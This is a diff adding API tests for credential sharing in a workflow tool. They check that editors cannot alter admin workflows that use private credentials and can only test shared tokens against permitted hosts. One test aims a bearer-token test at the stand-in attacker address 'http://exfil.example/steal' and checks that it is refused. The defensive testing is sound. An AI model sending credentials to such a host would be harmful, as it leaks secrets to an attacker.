@@ -170,6 +170,18 @@ describe('sharing and references', () => {
     const slipped = await h.call('PUT', `/api/workflows/${workflowId}`, call(private_.id));
     expect(slipped.status).toBe(400);
     expect(slipped.body.error.message).toMatch(/the workflow's owner \(.*\) may not use/);
+
+    // The admin's workflow with the private credential, shared with the editor: runnable by
+    // them, not changeable (that would choose where the credential goes), and they are told why.
+    const adminsId = (await h.call('POST', '/api/workflows', call(private_.id))).body.id;
+    expect((await h.call('PUT', `/api/workflows/${adminsId}/shares`, { userIds: [editor.id] })).status).toBe(200);
+    expect((await h.callAs(editor.key, 'POST', `/api/workflows/${adminsId}/run`, {})).status).toBe(202);
+    const renamed = await h.callAs(editor.key, 'PUT', `/api/workflows/${adminsId}`, { ...call(private_.id), name: 'Renamed by the editor' });
+    expect(renamed.status).toBe(400);
+    expect(renamed.body.error).toMatchObject({ code: 'credential_not_shared', path: 'graph.nodes[1].params.credential' });
+    expect(renamed.body.error.message).toContain('an admin can share that credential with you');
+    // A rename alone does not touch the graph, so it is allowed.
+    expect((await h.callAs(editor.key, 'PUT', `/api/workflows/${adminsId}`, { name: 'Renamed by the editor' })).status).toBe(200);
   });
 });
 
@@ -233,6 +245,19 @@ describe('test connection', () => {
     expect(noBody.status).toBe(200);
     expect(noBody.body).toMatchObject({ ok: false, message: 'Give an address (url) to test this credential against' });
     const audit = (await h.call('GET', `/api/audit?action=credential.test&resourceId=${stored.id}`)).body.entries;
-    expect(audit.map((entry: { details: unknown }) => entry.details)).toEqual([{ ok: false }, { ok: true }]);
+    expect(audit.map((entry: { details: unknown }) => entry.details)).toEqual([{ ok: false }, { ok: true, host: new URL(http.url).host }]);
+  });
+
+  it('lets someone a credential is only shared with test it only against the hosts it is limited to', async () => {
+    const editor = await h.createUser('editor');
+    const unlimited = await store('httpBearer', { token: TOKEN }, { sharedWith: [editor.id] });
+    const refused = await h.callAs(editor.key, 'POST', `/api/credentials/${unlimited.id}/test`, { url: `${http.url}/bearer` });
+    expect(refused.status).toBe(403);
+    expect(refused.body.error.message).toContain('only an admin may test it against an address');
+    const limited = await store('httpBearer', { token: TOKEN, allowedHosts: ['127.0.0.1'] }, { sharedWith: [editor.id] });
+    expect((await h.callAs(editor.key, 'POST', `/api/credentials/${limited.id}/test`, { url: `${http.url}/bearer` })).body).toMatchObject({ ok: true });
+    const elsewhere = await h.callAs(editor.key, 'POST', `/api/credentials/${limited.id}/test`, { url: 'http://exfil.example/steal' });
+    expect(elsewhere.status).toBe(403);
+    expect(elsewhere.body.error.message).toBe('This credential may only be tested against 127.0.0.1');
   });
 });
